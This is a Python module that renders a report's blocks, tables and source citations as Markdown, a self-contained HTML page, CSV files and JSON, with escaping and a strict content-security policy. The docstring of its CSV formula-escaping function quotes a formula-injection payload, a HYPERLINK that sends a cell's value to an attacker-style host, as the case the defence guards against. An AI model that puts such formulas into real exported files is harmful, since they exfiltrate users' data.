"""The report as blocks (headings, paragraphs, lists, tables, images, the list of sources)
and its writers: Markdown, one standalone HTML page (inline CSS, images as data: URIs, no
script, no external request, every text escaped), CSV (one file per table) and JSON.

Source citations: in a paragraph or list item, a bracketed list of source ids
("[dw-2026-01-24-us-china-ai-race, alyosha-2026-01-31-deep-dive]"), and in a table's
`cites` columns, every source id; each id the document's Sources list holds becomes a link
to its entry there (`#src-<id>`) in Markdown and HTML, and stays plain text in CSV and JSON.
"""

from __future__ import annotations

import base64
import csv
import html
import io
import json
import re
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

from kg.core.cells import FORMULA_START
from kg.core.markdown import no_html, prose, table_cell

SHOWN_AT_MOST = 50  # rows of a table in Markdown and HTML (What changed: its own rule)


@dataclass
class Table:
    """A table: name (the CSV file's stem), column headers, rows of plain values
    (str, int, float, None); `show` rows in Markdown and HTML (None: all), the rest
    in the CSV only: the first `show` rows, or with `newest` (rows in time order) the
    last `show`, and the rows at the indexes in `keep` wherever they are (the rows of
    the changes chart's numbered dots). Whatever `show` says, Markdown and HTML show
    the first SHOWN_AT_MOST rows at most (but a `newest` table, which has its own
    bound), and say so, naming `order`, the rows' order in words ("by PageRank"): a
    scale trial's 100k report was 19,817 lines of Markdown and 1.1 million pixels of
    HTML, its scorecard alone 3,565 lines."""

    name: str
    columns: list[str]
    rows: list[list]
    show: int | None = None
    hide: tuple[str, ...] = ()  # columns in the CSV and JSON only
    cites: tuple[str, ...] = ()  # columns whose source ids link to the Sources list
    newest: bool = False  # show the last `show` rows, not the first
    keep: frozenset[int] = frozenset()  # indexes of rows shown whatever `show` says
    gap: str = ""  # said after how many rows are left out: where they are missing
    order: str = ""  # the rows' order in words ("by PageRank"), said when capped

    @property
    def capped(self) -> bool:
        """Whether SHOWN_AT_MOST, not `show`, bounds the rows Markdown and HTML show."""
        wanted = len(self.rows) if self.show is None else min(self.show, len(self.rows))
        return not self.newest and wanted > SHOWN_AT_MOST

    def shown_rows(self) -> list[list]:
        """The rows Markdown and HTML show, all columns, in the table's order."""
        show = SHOWN_AT_MOST if self.capped else self.show
        if show is None or show >= len(self.rows):
            return self.rows
        first = len(self.rows) - show if self.newest else 0
        return [r for i, r in enumerate(self.rows)
                if first <= i < first + show or i in self.keep]

    def cap_note(self, where: str) -> str:
        """The words under a capped table: "The first 50 of 3,564 rows, by dimension;
        all in scorecard.csv." (`where`: the CSV's name as the writer links it)."""
        return (f"The first {SHOWN_AT_MOST} of {len(self.rows):,} rows"
                f"{', ' + self.order if self.order else ''}; all in {where}.")

    def visible(self) -> tuple[list[str], list[list]]:
        """The columns and rows Markdown and HTML show."""
        keep = [i for i, c in enumerate(self.columns) if c not in self.hide]
        return ([self.columns[i] for i in keep],
                [[r[i] for i in keep] for r in self.shown_rows()])

    def left_out(self) -> str:
        """How many rows Markdown and HTML leave to the CSV, in words: "24 more rows", or
        for a table showing its newest rows "24 earlier rows" (a journalist's trial: "(24
        more rows in changes.csv.)" were the newest, the H200 customs block among them)."""
        n = len(self.rows) - len(self.shown_rows())
        return f"{n} {'earlier' if self.newest else 'more'} row{'' if n == 1 else 's'}"


@dataclass(frozen=True)
class SourceEntry:
    """One source of the report's Sources list.

    url: its own web page (an http(s) address, else ""); links: (label, http(s) address)
    of the other links a reader can open (its archived copy, resolver links derived from
    its identifiers); identifiers: (label, value) of the identifiers without a resolver
    link (an SEC accession number) and of an address that is not http(s), shown as text;
    bundled: the file name of a bundled article ("" for any other source).
    """

    id: str
    title: str
    publisher: str
    date: str
    reliability: str
    reliability_note: str = ""
    bundled: str = ""
    url: str = ""
    links: tuple[tuple[str, str], ...] = ()
    identifiers: tuple[tuple[str, str], ...] = ()


SOURCE_COLUMNS = ["id", "title", "publisher", "date", "reliability", "reliability note",
                  "bundled file", "url", "other links", "identifiers"]


def sources_table(entries: list[SourceEntry]) -> Table:
    """The Sources list as the table sources.csv and report.json hold."""
    return Table("sources", list(SOURCE_COLUMNS), [
        [s.id, s.title, s.publisher, s.date, s.reliability, s.reliability_note, s.bundled, s.url, "; ".join(f"{label}: {url}" for label, url in s.links),
         "; ".join(f"{label}: {value}" for label, value in s.identifiers)]
        for s in entries])


@dataclass
class Doc:
    """The report: a title and blocks in order. A block is ("h2" | "h3" | "p", text),
    ("ul", [text]), ("table", Table), ("img", file name, alt text, scroll) or ("sources",
    [SourceEntry], Table): the list the report's citations link to (at most one). scroll:
    on a phone the image keeps its own size in a box that scrolls sideways (a chart whose
    small print cannot be shrunk to the screen and still be read)."""

    title: str
    blocks: list[tuple] = field(default_factory=list)
    meta: dict = field(default_factory=dict)

    def h2(self, text): self.blocks.append(("h2", text))  # noqa: E704
    def h3(self, text): self.blocks.append(("h3", text))  # noqa: E704
    def p(self, text): self.blocks.append(("p", text))  # noqa: E704
    def ul(self, items): self.blocks.append(("ul", list(items)))  # noqa: E704
    def img(self, name, alt, scroll=False): self.blocks.append(("img", name, alt, scroll))  # noqa: E704

    def table(self, t: Table) -> Table:
        self.blocks.append(("table", t))
        return t

    def sources(self, entries: list[SourceEntry]) -> None:
        """The Sources list (entries in the order given), written as a list in Markdown
        and HTML (the entries some shown text cites; the others are in sources.csv) and
        as the table `sources` in CSV and JSON."""
        entries = list(entries)
        self.blocks.append(("sources", entries, sources_table(entries)))

    @property
    def tables(self) -> list[Table]:
        return [b[2] if b[0] == "sources" else b[1] for b in self.blocks
                if b[0] in ("table", "sources")]

    def heading_ids(self) -> dict[int, str]:
        """The anchor of each h2 and h3 block, by the block's index: GitHub's rule for a
        Markdown heading's anchor (lower case, every character but letters, digits, "_",
        "-" and spaces dropped, spaces as "-"; "-1", "-2" after a repeated one), so the
        same link opens the heading in report.html and in report.md as GitHub shows it."""
        out: dict[int, str] = {}
        seen: dict[str, int] = {}
        for i, b in enumerate(self.blocks):
            if b[0] in ("h2", "h3"):
                slug = re.sub(r"[^\w\- ]", "", b[1].lower()).replace(" ", "-")
                n = seen.get(slug, 0)
                seen[slug] = n + 1
                out[i] = f"{slug}-{n}" if n else slug
        return out

    @property
    def source_ids(self) -> frozenset[str]:
        """The ids of the Sources list: the ids a citation may link to."""
        return frozenset(s.id for b in self.blocks if b[0] == "sources" for s in b[1])


# a bracketed list of ids in prose: "[a]", "[a, b]"
CITATION = re.compile(r"\[([a-z0-9]+(?:-[a-z0-9]+)*(?:, [a-z0-9]+(?:-[a-z0-9]+)*)*)\]")
ID_TOKEN = re.compile(r"(?<![a-z0-9-])[a-z0-9]+(?:-[a-z0-9]+)*(?![a-z0-9-])")


def _split_prose(text: str, known) -> list[tuple[str, list[str] | None]]:
    """text as segments: (plain text, None) and (the citation's text, its ids) for each
    bracketed list of ids that are all in `known`."""
    out, at = [], 0
    for m in CITATION.finditer(text):
        ids = m.group(1).split(", ")
        if all(i in known for i in ids):
            out += [(text[at:m.start()], None), (m.group(0), ids)]
            at = m.end()
    return out + [(text[at:], None)]


def _split_cell(text: str, known) -> list[tuple[str, str | None]]:
    """A cites column's text as segments: (plain text, None) and (id, id) per known id."""
    out, at = [], 0
    for m in ID_TOKEN.finditer(text):
        if m.group(0) in known:
            out += [(text[at:m.start()], None), (m.group(0), m.group(0))]
            at = m.end()
    return out + [(text[at:], None)]


def cited(doc: Doc, known, shown_only: bool = False) -> list[str]:
    """The ids of `known` (source ids) the document cites (see the module's docstring),
    sorted: in every row of every table, or only in what Markdown and HTML show."""
    found: set[str] = set()
    for b in doc.blocks:
        if b[0] in ("p", "ul"):
            for text in ([b[1]] if b[0] == "p" else b[1]):
                found.update(i for _, ids in _split_prose(text, known) if ids for i in ids)
        elif b[0] == "table" and b[1].cites:
            t = b[1]
            if shown_only:
                if t.show == 0:
                    continue
                columns, rows = t.visible()
            else:
                columns, rows = t.columns, t.rows
            at = [i for i, c in enumerate(columns) if c in t.cites]
            for r in rows:
                for i in at:
                    found.update(i_ for _, i_ in _split_cell(cell(r[i]), known) if i_)
    return sorted(found)


def anchor(source_id: str) -> str:
    """The HTML id (and Markdown anchor) of a source's entry in the Sources list."""
    return f"src-{source_id}"


def cell(v) -> str:
    if v is None:
        return ""
    if isinstance(v, float):
        return f"{v:.6f}".rstrip("0").rstrip(".") if v else "0"
    return str(v)


def _md_cell(v) -> str:
    return table_cell(cell(v))


def _md_link(source_id: str) -> str:
    return f"[{source_id}](#{anchor(source_id)})"


def _linked_prose(text: str, known, escape, link) -> str:
    """Prose with each citation of a known source as links to the Sources list: the
    other text through escape(text), each id through link(id) (the Markdown or HTML
    writer's)."""
    return "".join(escape(seg) if ids is None else "[" + ", ".join(map(link, ids)) + "]"
                   for seg, ids in _split_prose(text, known))


def _linked_cell(v, known, escape, link) -> str:
    """A cites column's cell with each known source id as a link, the rest escaped."""
    return "".join(escape(seg) if i is None else link(i)
                   for seg, i in _split_cell(cell(v), known))


def _md_prose(text: str, known) -> str:
    return _linked_prose(text, known, prose, _md_link)


def _md_cites(v, known) -> str:
    return _linked_cell(v, known, table_cell, _md_link)


MD_SPECIAL = re.compile(r"([\\`*_\[\]<>])")


def _md_text(text: str) -> str:
    """Text from the data, as literal text in Markdown (no markup, no HTML)."""
    return MD_SPECIAL.sub(r"\\\1", text).replace("\n", " ")


def _md_url(url: str) -> str:
    """An http(s) address as a Markdown link destination: spaces, brackets and parentheses
    percent-encoded."""
    return quote(url, safe="/:?#@!$&'*+,;=%~-._")


def _sentence(text: str) -> str:
    """text ending in a full stop, unless it ends in one already (or in ? or !)."""
    text = text.strip()
    return text if text.endswith((".", "?", "!")) else text + "."


def _entry_parts(s: SourceEntry) -> list[tuple[str, ...]]:
    """A source's entry as ("text", words) and ("link", address) parts, for both writers."""
    parts: list[tuple[str, ...]] = [("text", f": {_sentence(s.title)} {s.publisher}"
                                     + (f", {s.date}" if s.date else "") + ". ")]
    if s.reliability:
        parts.append(("text", f"Reliability: {s.reliability}"
                      + (f" ({s.reliability_note.rstrip('.')})" if s.reliability_note else "")
                      + ". "))
    if s.url:
        parts += [("link", s.url), ("text", " ")]
    for label, url in s.links:
        parts += [("text", f"{label}: "), ("link", url), ("text", " ")]
    for label, value in s.identifiers:
        parts.append(("text", f"{label}: {value}. "))
    if s.bundled:
        parts.append(("text", f"Bundled article: its text ships with the project "
                              f"({s.bundled}); facts taken from it are marked from-article."))
    elif not (s.url or s.links or s.identifiers):
        parts.append(("text", "No link or identifier in the data."))
    return parts


def _shown_sources(doc: Doc, entries: list[SourceEntry]) -> list[SourceEntry]:
    """The entries some text that Markdown and HTML show cites."""
    shown = set(cited(doc, doc.source_ids, shown_only=True))
    return [s for s in entries if s.id in shown]


def _more_sources(n: int) -> str:
    return (f"({n} more source{'' if n == 1 else 's'}, cited only in the CSV files, "
            f"{'is' if n == 1 else 'are'} in `sources.csv`.)")


def _contents(doc: Doc) -> list[tuple[str, str]]:
    """(anchor, heading) of each h2: the table of contents."""
    ids = doc.heading_ids()
    return [(ids[i], b[1]) for i, b in enumerate(doc.blocks) if b[0] == "h2"]


# What a file written beside the report holds, for its Files list (a researcher's trial:
# report.html named why-central.csv but did not link it, nor the CSVs of the tables it
# shows whole: scorecard, bridges, robustness, disputes)
FILE_WORDS = {"report.md": "this report in Markdown",
              "report.html": "this report as one web page (charts inside it)",
              "report.json": "every table of this report, all rows, in JSON",
              "charts.json": "what each chart was drawn from (a chart is redrawn only "
                             "when that changes)"}


def beside_files(doc: Doc, images, formats: set[str], record: str = "") -> list[str]:
    """The files the report writes in these formats (encode): report.html, report.md,
    the charts and their record, each table's CSV and report.json, in that order."""
    from kg.analysis.chartcache import RECORD

    names = ["report.html"] if "html" in formats else []
    if "md" in formats:
        names += ["report.md", *sorted(images)] + ([RECORD] if record else [])
    if "csv" in formats:
        names += [f"{t.name}.csv" for t in doc.tables]
    if "json" in formats:
        names.append("report.json")
    return names


def file_list(doc: Doc, beside: list[str]) -> list[tuple[str, str, str]]:
    """(file, what it holds, the anchor of the heading it is shown under or "") of each
    file in `beside`: a table's CSV or a chart is shown under the heading before it."""
    ids, under, heading = doc.heading_ids(), {}, ("", "")
    for i, b in enumerate(doc.blocks):
        if b[0] in ("h2", "h3"):
            heading = (ids[i], b[1])
        elif b[0] == "table":  # a table shown as prose only (show=0): the rows behind it
            under[f"{b[1].name}.csv"] = ("the table" if b[1].show != 0 else "the rows behind the text",
                                         *heading)
        elif b[0] == "img":
            under[b[1]] = ("the chart", *heading)
        elif b[0] == "sources":  # the list shows the sources some shown text cites
            under["sources.csv"] = ("every source the report cites, listed", *heading)
    out = []
    for name in beside:
        if name in under:
            what, anchor_id, title = under[name]
            out.append((name, f"{what} under “{title}”" if title else what, anchor_id))
        else:
            out.append((name, FILE_WORDS.get(name, ""), ""))
    return out


def files_at(doc: Doc) -> int:
    """The index of the block before which the Files section goes: the h2 over the list of
    sources, which stays the last section; else the end."""
    at = last_h2 = len(doc.blocks)
    for i, b in enumerate(doc.blocks):
        if b[0] == "h2":
            last_h2 = i
        elif b[0] == "sources":
            at = last_h2
    return at


def _with_files(doc: Doc, contents: list[tuple[str, str]], beside) -> list[tuple[str, str]]:
    """The table of contents with Files where files_at puts it (none: nothing beside)."""
    if not beside:
        return contents
    before = sum(1 for b in doc.blocks[:files_at(doc)] if b[0] == "h2")
    return contents[:before] + [("files", "Files")] + contents[before:]


def _mentions(names) -> str:
    return "|".join(re.escape(n) for n in sorted(names, key=len, reverse=True))


def _md_files(text: str, beside) -> str:
    """Markdown text with each mention of a file in `beside` ("changes.csv has them all",
    `sources.csv`) a relative link to it."""
    if not beside:
        return text
    return re.sub(r"(?<![\w.#/\[-])(?<!\]\()(`?)(" + _mentions(beside) + r")\1(?![\w-])",
                  lambda m: f"[{m.group(0)}]({quote(m.group(2))})", text)


def _html_files(text: str, beside) -> str:
    """HTML text (escaped prose) with each mention of a file in `beside`, in <code> or
    not, a relative link to it."""
    if not beside:
        return text
    return re.sub(r'(?<![\w.#/"-])(<code>)?(' + _mentions(beside) + r")(?(1)</code>)(?![\w-])",
                  lambda m: f'<a href="{html.escape(quote(m.group(2)))}">{m.group(0)}</a>', text)


def markdown(doc: Doc, csv_beside: bool = False, beside: list[str] | None = None) -> str:
    """report.md; csv_beside: the CSV files are written beside it, so a table cut short
    links to its CSV ("22 more rows in changes.csv", a journalist's trial); beside: the
    files written beside it (beside_files): each mention of one links to it, and a section,
    Files (before the Sources, which stay last: files_at), lists them all with what each
    holds."""
    known = doc.source_ids
    beside = beside or []
    out = [f"# {doc.title}", ""]
    contents = _with_files(doc, _contents(doc), beside)
    if contents:
        out += ["Contents:", ""] + [f"- [{no_html(h)}](#{a})" for a, h in contents] + [""]
    at = files_at(doc) if beside else -1
    for i, b in enumerate(doc.blocks + [("end",)]):
        if i == at:
            out += ["## Files", "", "Written beside this report, in the same folder:", ""]
            out += [f"- [{name}]({quote(name)})" + (f": {_md_text(what)}" if what else "")
                    + (f" ([shown here](#{a}))" if a else "")
                    for name, what, a in file_list(doc, beside)] + [""]
        if b[0] == "h2":
            out += [f"## {no_html(b[1])}", ""]
        elif b[0] == "h3":
            out += [f"### {no_html(b[1])}", ""]
        elif b[0] == "p":
            out += [_md_files(_md_prose(b[1], known), beside), ""]
        elif b[0] == "ul":
            out += [f"- {_md_files(_md_prose(item, known), beside)}" for item in b[1]] + [""]
        elif b[0] == "img":
            out += [f"![{b[2]}]({b[1]})", ""]
        elif b[0] == "sources":
            shown = _shown_sources(doc, b[1])
            for s in shown:
                words = "".join(_md_text(p[1]) if p[0] == "text"
                                else f"[{_md_text(p[1])}]({_md_url(p[1])})"
                                for p in _entry_parts(s))
                out.append(f'- <a id="{anchor(s.id)}"></a>**{s.id}**{words.rstrip()}')
            if len(shown) < len(b[1]):
                out += ["", _md_files(_more_sources(len(b[1]) - len(shown)), beside)]
            out.append("")
        elif b[0] == "table" and b[1].show == 0:
            where = (f"[{b[1].name}.csv]({quote(b[1].name)}.csv)" if csv_beside
                     else f"`{b[1].name}.csv`")
            out += [f"(The {len(b[1].rows)} rows are in {where}.)", ""]
        elif b[0] == "table":
            t = b[1]
            columns, rows = t.visible()
            linked = [c in t.cites for c in columns]
            more = ""
            if len(rows) < len(t.rows):
                where = f"[{t.name}.csv]({t.name}.csv)" if csv_beside else f"`{t.name}.csv`"
                more = (f"({t.cap_note(where)})" if t.capped else
                        f"({t.left_out()} in {where}{'; ' + t.gap if t.gap else ''}.)")
            if t.newest and more:  # rows left out before the ones shown: said before them
                out += [more, ""]
            out.append("| " + " | ".join(_md_cell(c) for c in columns) + " |")
            out.append("|" + "---|" * len(columns))
            out += ["| " + " | ".join(_md_cites(c, known) if ln else _md_cell(c)
                                      for c, ln in zip(r, linked, strict=True)) + " |"
                    for r in rows]
            if more and not t.newest:
                out += ["", more]
            out.append("")
    return "\n".join(out).rstrip("\n") + "\n"


# On paper (print, save as PDF) a table is a table again: on screen it scrolls sideways
# (display:block; overflow-x:auto), which in print cut off every column past the page
# edge (the centrality tables lost eigenvector, closeness and community). On a phone
# (under 40rem) each row is a card, each cell "column: value" (its data-label), empty
# cells left out (a journalist's trial: the scorecard was 6,400 px tall and 821 px wide
# in a 358 px box, its rows mostly blank, the figures off to the right). A chart in a
# .chart-scroll box keeps its own size on a phone and scrolls sideways in the box (a
# journalist's trial: the What changed chart, 1000 px wide, shrank to 358 px and its
# labels to 3 px); on paper and on a wider screen it fits the page as every image does.
CSS = """
body{font:16px/1.5 Georgia,'DejaVu Serif',serif;max-width:60rem;margin:2rem auto;padding:0 1rem;color:#1a1a1a}
h1,h2,h3{font-family:'DejaVu Sans',Helvetica,Arial,sans-serif;line-height:1.2}
h2{border-bottom:1px solid #ccc;padding-bottom:.2rem;margin-top:2.5rem}
table{border-collapse:collapse;font:13px/1.35 'DejaVu Sans',Helvetica,Arial,sans-serif;margin:1rem 0;display:block;overflow-x:auto}
th,td{border:1px solid #ddd;padding:.25rem .45rem;vertical-align:top;text-align:left}
th{background:#f3f3f3}
tr:nth-child(even) td{background:#fafafa}
img{max-width:100%;height:auto;border:1px solid #eee}
.more{color:#666;font-size:13px}
.sources li{margin:.3rem 0;overflow-wrap:anywhere}
:target{background:#fff3b0}
code{font-size:90%;background:#f3f3f3;padding:0 .2em}
@media print{body{max-width:none;margin:0;padding:0;font-size:11pt}table{display:table;overflow:visible;font-size:9px;width:100%}th,td{overflow-wrap:break-word;padding:.15rem .25rem}tr,img{break-inside:avoid}h2,h3{break-after:avoid}}
.chart-scroll{margin:1rem 0}
.scroll-hint{display:none}
@media screen and (max-width:40rem){.chart-scroll{overflow-x:auto}.chart-scroll img{max-width:none}.scroll-hint{display:block;color:#666;font-size:13px;margin:.2rem 0}}
@media screen and (max-width:40rem){table,tbody,tr,td{display:block}table{overflow:visible}thead{position:absolute;left:-9999px}tr{border:1px solid #ccc;margin:0 0 .6rem}td{border:0;border-bottom:1px solid #eee;overflow-wrap:anywhere}td::before{content:attr(data-label) ": ";font-weight:bold}td:empty{display:none}tr:nth-child(even) td{background:none}}
"""


# under a chart that keeps its size on a phone (an img block's scroll), shown on a phone only
SCROLL_HINT = "The chart keeps its full size on a small screen: scroll it sideways."


def _inline(text: str) -> str:
    """Escaped text, with Markdown's `code` spans as <code>."""
    return re.sub(r"`([^`]+)`", r"<code>\1</code>", html.escape(text))


def _html_link(source_id: str) -> str:
    return f'<a href="#{anchor(source_id)}">{html.escape(source_id)}</a>'


def _html_prose(text: str, known) -> str:
    return _linked_prose(text, known, _inline, _html_link)


def _html_cites(v, known) -> str:
    return _linked_cell(v, known, html.escape, _html_link)


def page(doc: Doc, images: dict[str, bytes], csv_beside: bool = False,
         beside: list[str] | None = None) -> str:
    """One standalone HTML page; `images` maps an img block's file name to its PNG bytes;
    csv_beside, beside: as for markdown (the links are relative: they open the files
    beside the page, offline)."""
    e = html.escape
    known = doc.source_ids
    beside = beside or []
    out = ["<!DOCTYPE html>", '<html lang="en">', "<head>", '<meta charset="utf-8">',
           '<meta name="viewport" content="width=device-width, initial-scale=1">',
           # no request of any kind: images are inline, nothing else may load
           '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; '
           'img-src data:; style-src \'unsafe-inline\'">',
           f"<title>{e(doc.title)}</title>", f"<style>{CSS.strip()}</style>", "</head>",
           "<body>", f"<h1>{e(doc.title)}</h1>"]
    contents = _with_files(doc, _contents(doc), beside)
    if contents:
        out.append('<nav class="contents" aria-label="Contents"><p>Contents:</p><ul>'
                   + "".join(f'<li><a href="#{e(a)}">{e(h)}</a></li>' for a, h in contents)
                   + "</ul></nav>")
    ids = doc.heading_ids()
    at = files_at(doc) if beside else -1
    for i, b in enumerate(doc.blocks + [("end",)]):
        if i == at:
            out += ['<h2 id="files">Files</h2>',
                    "<p>Written beside this report, in the same folder:</p>", '<ul class="files">']
            out += [f'<li><a href="{e(quote(name))}">{e(name)}</a>' + (f": {e(what)}" if what else "")
                    + (f' (<a href="#{e(a)}">shown here</a>)' if a else "") + "</li>"
                    for name, what, a in file_list(doc, beside)]
            out.append("</ul>")
        if b[0] in ("h2", "h3"):
            out.append(f'<{b[0]} id="{e(ids[i])}">{e(b[1])}</{b[0]}>')
        elif b[0] == "p":
            out.append(f"<p>{_html_files(_html_prose(b[1], known), beside)}</p>")
        elif b[0] == "ul":
            out.append("<ul>" + "".join(f"<li>{_html_files(_html_prose(i, known), beside)}</li>"
                                        for i in b[1]) + "</ul>")
        elif b[0] == "sources":
            shown = _shown_sources(doc, b[1])
            out.append('<ul class="sources">')
            out += [f'<li id="{e(anchor(s.id))}"><strong>{e(s.id)}</strong>'
                    + "".join(e(p[1]) if p[0] == "text"
                              else f'<a href="{e(p[1])}">{e(p[1])}</a>'
                              for p in _entry_parts(s)).rstrip() + "</li>"
                    for s in shown]
            out.append("</ul>")
            if len(shown) < len(b[1]):
                more = _html_files(_inline(_more_sources(len(b[1]) - len(shown))), beside)
                out.append(f'<p class="more">{more}</p>')
        elif b[0] == "img":
            data = base64.b64encode(images[b[1]]).decode("ascii")
            img = f'<img src="data:image/png;base64,{data}" alt="{e(b[2])}">'
            if b[3]:
                # focusable, so the box scrolls from the keyboard too
                out.append(f'<div class="chart-scroll" role="region" aria-label="{e(b[2])}" '
                           f'tabindex="0">{img}</div>'
                           f'<p class="scroll-hint">{e(SCROLL_HINT)}</p>')
            else:
                out.append(f"<p>{img}</p>")
        elif b[0] == "table" and b[1].show == 0:
            name = f"{b[1].name}.csv"
            where = f'<a href="{e(quote(name))}">{e(name)}</a>' if csv_beside else e(name)
            out.append(f'<p class="more">(The {len(b[1].rows)} rows are in {where}.)</p>')
        elif b[0] == "table":
            t = b[1]
            columns, rows = t.visible()
            more = ""
            if len(rows) < len(t.rows):
                where = (f'<a href="{e(quote(t.name))}.csv">{e(t.name)}.csv</a>' if csv_beside
                         else f"{e(t.name)}.csv")
                more = (f'<p class="more">({_cap_html(t, where)})</p>' if t.capped else
                        f'<p class="more">({e(t.left_out())} in {where}'
                        f"{'; ' + e(t.gap) if t.gap else ''}.)</p>")
            if t.newest and more:  # rows left out before the ones shown: said before them
                out.append(more)
            out.append("<table><thead><tr>" + "".join(f"<th>{e(c)}</th>" for c in columns)
                       + "</tr></thead><tbody>")
            linked = [c in t.cites for c in columns]
            labels = [e(c) for c in columns]
            out += ["<tr>" + "".join(
                f'<td data-label="{lab}">{_html_cites(c, known) if ln else e(cell(c))}</td>'
                for c, ln, lab in zip(r, linked, labels, strict=True)) + "</tr>"
                    for r in rows]
            out.append("</tbody></table>")
            if more and not t.newest:
                out.append(more)
    out += ["</body>", "</html>"]
    return "\n".join(out) + "\n"


def _cap_html(t: Table, where: str) -> str:
    """Table.cap_note in HTML: the words escaped, `where` (a link) as it is."""
    words = html.escape(t.cap_note("\0"))
    return words.replace("\0", where)


def csv_cell(v) -> str:
    """A CSV cell: `cell(v)`, and a text (not a number) that a spreadsheet would take for
    a formula (it starts with =, +, -, @, a tab or a carriage return: OWASP's list) with a
    "'" before it, so that Excel or LibreOffice shows it instead of running it (a
    maintainer's trial: a model named '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    passed validation and was written as it was into centrality.csv)."""
    text = cell(v)
    if isinstance(v, str) and text.startswith(FORMULA_START):
        return "'" + text
    return text


def csv_text(t: Table) -> str:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(t.columns)
    for r in t.rows:
        w.writerow([csv_cell(c) for c in r])
    return buf.getvalue()


def json_text(doc: Doc) -> str:
    body = {"title": doc.title, **doc.meta,
            "tables": {t.name: [dict(zip(t.columns, r, strict=True)) for r in t.rows] for t in doc.tables}}
    # compact (one line): it is read by programs, and the C encoder only runs without indent
    return json.dumps(body, ensure_ascii=False, sort_keys=True, separators=(",", ":")) + "\n"


def write(doc: Doc, images: dict, out_dir: Path, formats: set[str],
          stage: list | None = None) -> list[Path]:
    """Write the chosen formats ("md", "html", "csv", "json") into out_dir; PNG charts are
    written with md (the Markdown links them), with their record (`charts.json`, see
    kg.analysis.chartcache). images: PNG file name -> bytes, a chartcache.Chart (drawn
    only if out_dir does not already hold its PNG for the same input) or a
    chartcache.Drawn (resolved ahead by chartcache.drawn: taken as it is). Returns the
    paths written, sorted. stage: see write_files."""
    return write_files(encode(doc, images, out_dir, formats), out_dir, stage)


def encode(doc: Doc, images: dict, out_dir: Path, formats: set[str],
           tables: dict[str, bytes] | None = None) -> dict[str, bytes]:
    """What write writes, made but not written: file name -> bytes (the CSV and JSON texts
    are most of the time at size: 0.75 s at 10k entities). out_dir is read only for the
    charts already there (see write). tables: encode_tables(doc, formats), if made
    already."""
    from kg.analysis.chartcache import RECORD, resolve

    files: dict[str, bytes] = {}
    record = ""
    if "md" in formats or "html" in formats:
        images, record = resolve(images, out_dir)
    beside = beside_files(doc, images, formats, record)
    if "md" in formats:
        files["report.md"] = markdown(doc, "csv" in formats,
                                      [n for n in beside if n != "report.md"]).encode("utf-8")
        files.update(images)
        if record:
            files[RECORD] = record.encode("utf-8")
    if "html" in formats:
        files["report.html"] = page(doc, images, "csv" in formats,
                                    [n for n in beside if n != "report.html"]).encode("utf-8")
    files.update(encode_tables(doc, formats) if tables is None else tables)
    return files


def encode_tables(doc: Doc, formats: set[str]) -> dict[str, bytes]:
    """The files of encode that need no chart: each table's CSV ("csv" in formats) and
    report.json ("json")."""
    files: dict[str, bytes] = {}
    if "csv" in formats:
        for t in doc.tables:
            files[f"{t.name}.csv"] = csv_text(t).encode("utf-8")
    if "json" in formats:
        files["report.json"] = json_text(doc).encode("utf-8")
    return files


def write_files(files: dict[str, bytes], out_dir: Path,
                stage: list | None = None) -> list[Path]:
    """Write each file (name -> bytes) into out_dir (made if missing), each replaced
    atomically through a .tmp beside it; the paths written, sorted by name. stage: a
    list, to leave each under its .tmp and add (temporary, path) to it instead: the
    caller puts them in place (kg build: all its outputs together)."""
    out_dir.mkdir(parents=True, exist_ok=True)
    written = []
    for name, data in sorted(files.items()):
        path = out_dir / name
        tmp = path.with_suffix(path.suffix + ".tmp")
        tmp.write_bytes(data)
        if stage is None:
            tmp.replace(path)
        else:
            stage.append((tmp, path))
        written.append(path)
    return written
